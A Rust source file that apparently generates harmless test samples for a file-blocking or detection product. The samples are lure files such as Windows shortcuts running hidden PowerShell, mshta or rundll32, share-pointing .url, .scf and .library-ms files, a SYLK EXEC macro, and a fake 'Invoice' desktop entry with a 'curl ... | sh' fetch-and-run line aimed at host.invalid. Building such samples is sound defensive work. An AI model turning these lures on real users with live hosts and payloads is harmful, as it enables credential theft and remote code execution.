//! A3, A4, A5: files that lead somewhere else.

use crate::Standin;
use crate::build::eicar;
use crate::build::shortcut::Lnk;

const SHORTCUTS: &str = "detect/shortcuts";
const POWERSHELL: &str = "..\\..\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

pub(super) fn all() -> Vec<Standin> {
    let lnk = |name, what, target, arguments: &str| {
        let bytes = Lnk { target, arguments, ..Lnk::default() }.build();
        Standin::new("A3", SHORTCUTS, name, what, bytes).kind("lnk").blocked()
    };
    let padded = format!("{}/c echo hello", " ".repeat(400));
    let appended = [
        Lnk {
            target: "..\\cmd.exe",
            arguments: "/c more +1 x.lnk",
            icon: "%ProgramFiles%\\Reader\\reader.exe",
            minimised: true,
        }
        .build(),
        eicar(),
    ]
    .concat();
    let link =
        |name: &str, what, text: &str| Standin::new("A4", SHORTCUTS, name, what, text.as_bytes().to_vec()).blocked();
    let remote =
        |name: &str, what, text: &str| Standin::new("A5", SHORTCUTS, name, what, text.as_bytes().to_vec()).blocked();
    let mut all = vec![
        lnk("report.lnk", "a shortcut that runs PowerShell", POWERSHELL, "-w hidden -c Write-Host hello").technique("T1059.001"),
        lnk("offer.lnk", "a shortcut that runs mshta", "..\\mshta.exe", "https://host.invalid/a.hta").technique("T1218.005"),
        lnk("photos.lnk", "a shortcut that runs cmd", "..\\cmd.exe", "/c start calc").technique("T1059.003"),
        lnk("data.lnk", "a shortcut that runs rundll32", "..\\rundll32.exe", "data.dll,Start").technique("T1218.011"),
        lnk("notes.lnk", "a shortcut with padded arguments", "..\\cmd.exe", &padded).technique("T1027"),
        lnk("share.lnk", "a shortcut to a remote share", "\\\\host.invalid\\share\\setup.exe", "").technique("T1187"),
        Standin::new("A3", "formats/lnk", "x.lnk", "a shortcut with a payload behind its end", appended).payload("appended"),
        link("shell.terminal", "settings of a terminal that run a command", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><plist version=\"1.0\"><dict><key>CommandString</key><string>echo hello</string><key>type</key><string>Window Settings</string></dict></plist>").part("command", "command-line"),
        link("profile.mobileconfig", "a configuration profile of Apple", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><plist version=\"1.0\"><dict><key>PayloadType</key><string>Configuration</string><key>PayloadContent</key><array/></dict></plist>").kind("mobileconfig"),
        link("desk.ica", "a Citrix connection that starts a program", "[WFClient]\r\nVersion=2\r\n[ApplicationServers]\r\na=\r\n[a]\r\nAddress=host.invalid\r\nInitialProgram=calc\r\n").kind("ica"),
        link("data.dqy", "a database query of Excel", "XLODBC\r\n1\r\nDRIVER=SQL Server;SERVER=host.invalid\r\nselect 1\r\n").kind("dqy"),
        link("open.url", "an internet shortcut to a file share", "[InternetShortcut]\r\nURL=file://host.invalid/share/x\r\n").technique("T1187"),
        link("pin.website", "a pinned site to a file share", "[InternetShortcut]\r\nURL=file://host.invalid/share/x\r\nIconFile=\\\\host.invalid\\i\\i.ico\r\n").technique("T1187"),
        link("viewer.desktop", "a desktop entry that runs a shell", "[Desktop Entry]\nType=Application\nName=Invoice\nIcon=application-pdf\nExec=sh -c \"curl https://host.invalid/x | sh\"\n").technique("T1059.004"),
        link("page.webloc", "a location file of macOS to a share", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" \"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>URL</key><string>file://host.invalid/share/x</string></dict></plist>\n").technique("T1187"),
        link("dav.url", "an internet shortcut to WebDAV", "[InternetShortcut]\r\nURL=\\\\host.invalid@SSL\\DavWWWRoot\\setup.exe\r\n").technique("T1187").proves("formats/shortcut"),
    ];
    all.extend([
        remote("docs.library-ms", "a library with a remote location", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><libraryDescription xmlns=\"http://schemas.microsoft.com/windows/2009/library\"><searchConnectorDescriptionList><searchConnectorDescription><simpleLocation><url>\\\\host.invalid\\share</url></simpleLocation></searchConnectorDescription></searchConnectorDescriptionList></libraryDescription>").technique("T1187"),
        remote("find.search-ms", "a saved search in a remote place", "<?xml version=\"1.0\"?><persistedQuery version=\"1.0\"><query><scope><include path=\"\\\\host.invalid\\share\"/></scope></query></persistedQuery>").technique("T1187"),
        remote("find.searchConnector-ms", "a search connector to a remote place", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><searchConnectorDescription xmlns=\"http://schemas.microsoft.com/windows/2009/searchConnector\"><iconReference>https://host.invalid/i.ico</iconReference><simpleLocation><url>\\\\host.invalid\\share</url></simpleLocation></searchConnectorDescription>").technique("T1187"),
        remote("panel.SettingContent-ms", "a settings link that runs a program", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>").technique("T1059.003"),
        remote("nice.theme", "a theme with a remote picture", "[Theme]\r\nDisplayName=Nice\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\host.invalid\\share\\w.jpg\r\n[VisualStyles]\r\nPath=\\\\host.invalid\\share\\a.msstyles\r\n").technique("T1187"),
        remote("folder.scf", "an Explorer command with a remote icon", "[Shell]\r\nCommand=2\r\nIconFile=\\\\host.invalid\\share\\i.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n").technique("T1187"),
        remote("work.rdp", "a remote desktop that shares the drives", "screen mode id:i:2\r\nfull address:s:host.invalid\r\ndrivestoredirect:s:*\r\nremoteapplicationmode:i:1\r\nremoteapplicationprogram:s:||app\r\n"),
        remote("prices.iqy", "a web query", "WEB\r\n1\r\nhttps://host.invalid/prices\r\n\r\n"),
        remote("prices.slk", "a SYLK table that runs a program", "ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1;KOut Flank;F\r\nC;X1;Y1;K0;EEXEC(\"calc.exe\")\r\nE\r\n"),
    ]);
    all
}
